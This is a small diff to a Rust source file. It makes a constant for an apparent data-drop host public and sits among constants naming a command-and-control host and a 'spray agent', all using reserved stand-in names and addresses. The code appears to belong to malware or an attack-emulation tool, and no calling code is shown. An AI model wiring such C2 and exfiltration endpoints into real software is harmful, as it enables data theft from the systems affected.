@@ -28,7 +28,7 @@ pub(crate) const SPRAY_AGENT: &str =
 pub(crate) const C2_NAME: &str = "cdn-sync.example";
 const C2_ADDRESS: &str = "203.0.113.66";
 /// Where the data goes.
-const DROP_NAME: &str = "files.parcel-drop.example";
+pub(crate) const DROP_NAME: &str = "files.parcel-drop.example";
 const DROP_ADDRESS: &str = "203.0.113.140";
 
 /// The document opens.
